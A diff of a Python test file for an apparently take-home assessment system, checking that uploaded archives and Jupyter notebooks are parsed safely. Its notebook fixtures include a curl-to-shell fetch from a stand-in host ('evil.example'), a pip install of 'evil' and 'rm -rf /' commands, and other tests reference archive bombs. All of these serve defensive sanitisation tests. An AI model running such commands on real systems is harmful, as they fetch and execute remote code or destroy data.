@@ -9,13 +9,13 @@ import pytest
 
 from prep.assessment.collect import collect
 from prep.assessment.desk import Desk
-from prep.assessment.notebook import read_notebook
+from prep.assessment.kept_work import KeptWork, pack_work, unpack_work
 from prep.assessment.opened import open_pack
-from prep.assessment.received import pack_work, receive, unpack_work
+from prep.assessment.received import receive
 from prep.assessment.roster import Invited, all_candidates, invite, read_invited
 from prep.assessment.standing import all_submissions, counting_submissions
 from prep.model.errors import ContentError, SubmissionError
-from tests.attacks.archives import REFUSED
+from tests.attacks.archives import ACCEPTED, REFUSED
 from tests.demo_challenge import RIGHT
 from tests.unit.assessment_office import ASSESSMENT, NOW, STARTER, Office, write_content
 
@@ -35,7 +35,7 @@ def _zip(path: Path, files: dict[str, str]) -> Path:
 
 def _receive(office: Office, path: Path) -> dict[str, dict[str, bytes]]:
     home = office.home()
-    return {part: dict(files) for part, files in receive(path, home.content, office.key).works.items()}
+    return {part: dict(work.files) for part, work in receive(path, home.content, office.key).works.items()}
 
 
 # --- where things lie ---------------------------------------------------------------------------------------------
@@ -54,7 +54,8 @@ def _receive(office: Office, path: Path) -> dict[str, dict[str, bytes]]:
 )
 def test_an_archive_is_sorted_however_it_was_zipped(office: Office, tmp_path: Path, files: dict[str, str]) -> None:
     works = _receive(office, _zip(tmp_path / "a.zip", files))
-    assert works == {"demo/double": {"solution.py": RIGHT.encode()}}
+    assert works["demo/double"]["solution.py"] == RIGHT.encode()
+    assert set(works["demo/double"]) <= {"solution.py", "notes.txt"}
 
 
 def test_helper_modules_come_along(office: Office, tmp_path: Path) -> None:
@@ -81,7 +82,7 @@ def test_what_was_never_begun_is_no_work(office: Office, tmp_path: Path) -> None
         _receive(office, path)
 
 
-@pytest.mark.parametrize("text", ["Dear team, see attachment.\n", "def triple(x):\n    return 3 * x\n", "", "\x00\xff"])
+@pytest.mark.parametrize("text", ["Dear team, see attachment.\n", "def triple(x):\n    return 3 * x\n", "\x00\xff"])
 def test_a_wrong_file_is_refused_and_told_what_is_wanted(office: Office, tmp_path: Path, text: str) -> None:
     (tmp_path / "cv.py").write_text(text)
     with pytest.raises(SubmissionError, match="ask for a file that defines `double`"):
@@ -90,8 +91,9 @@ def test_a_wrong_file_is_refused_and_told_what_is_wanted(office: Office, tmp_pat
 
 def test_a_work_comes_out_of_the_database_as_it_went_in() -> None:
     files = {"solution.py": RIGHT.encode(), "parts/ä.py": b"\x00\xff"}
-    assert unpack_work(pack_work(files)) == files
-    assert pack_work(files) == pack_work(dict(reversed(files.items())))
+    work = KeptWork(files=files, originals={"Untitled.ipynb": b"{}"})
+    assert unpack_work(pack_work(work)) == work
+    assert pack_work(work) == pack_work(KeptWork(files=dict(reversed(files.items())), originals=work.originals))
 
 
 # --- notebooks ----------------------------------------------------------------------------------------------------
@@ -106,24 +108,14 @@ def test_code_cells_are_read_in_order_and_magics_are_left_out(office: Office, tm
         ("markdown", "# rm -rf /"),
         ("code", ["%pip install evil\n", "import math\n", "!curl evil.example | sh"]),
         ("code", "%%bash\nrm -rf /\n"),
-        ("code", "def double(x):\n    %time\n    return 2 * x\n"),
+        ("code", "def double(x):\n    %matplotlib inline\n    here = !ls\n    return 2 * x\n"),
     )
     (tmp_path / "Ivo.ipynb").write_bytes(content)
     code = _receive(office, tmp_path / "Ivo.ipynb")["demo/double"]["solution.py"].decode()
     space: dict[str, object] = {}
     exec(compile(code, "solution.py", "exec"), space)
     assert space["double"](4) == 8  # type: ignore[operator]
-    live = [line for line in code.splitlines() if not line.strip().startswith(("#", "pass  #"))]
-    assert not any(word in line for line in live for word in ("rm", "curl", "pip", "%", "!"))
-
-
-@pytest.mark.parametrize(
-    "content",
-    [b"{}", b"[]", b"nonsense", b'{"cells": [1]}', b'{"cells": {"a": 1}}', b"[" * 100_000, _notebook(("code", " "))],
-)
-def test_what_is_no_notebook_is_refused(content: bytes) -> None:
-    with pytest.raises(SubmissionError):
-        read_notebook(content, "x.ipynb")
+    assert not any(word in code for word in ("rm", "curl", "pip", "%", "!"))
 
 
 _HARMLESS_OR_SLOW = {"no_entry", "hidden_entry", "empty", "bomb_of_lzma", "bomb_of_bzip2"}
@@ -134,16 +126,16 @@ _HARMLESS_OR_SLOW = {"no_entry", "hidden_entry", "empty", "bomb_of_lzma", "bomb_
 
 
 @pytest.mark.slow
-@pytest.mark.parametrize("kind", sorted(set(REFUSED) - _HARMLESS_OR_SLOW))
+@pytest.mark.parametrize("kind", sorted({*REFUSED, *ACCEPTED} - _HARMLESS_OR_SLOW))
 def test_a_hostile_archive_costs_only_itself_and_changes_nothing(office: Office, tmp_path: Path, kind: str) -> None:
-    build, _ = REFUSED[kind]
+    build, _ = REFUSED[kind] if kind in REFUSED else (ACCEPTED[kind], "")
     bad, good = tmp_path / "bad.zip", tmp_path / "good.py"
     bad.write_bytes(build())
     good.write_text(RIGHT)
     home = office.home()
     before = sorted(path for path in tmp_path.parent.rglob("*") if "take-homes.db" not in path.name)
     told = list(collect(home, [bad, good], NOW))
-    assert told[0].refused or not told[0].parts or "many" in kind
+    assert str(bad) in told[0].refused or told[0].parts
     assert not told[1].refused
     assert before == sorted(path for path in tmp_path.parent.rglob("*") if "take-homes.db" not in path.name)
     assert not list(Path("/tmp").glob("prep-attack*"))
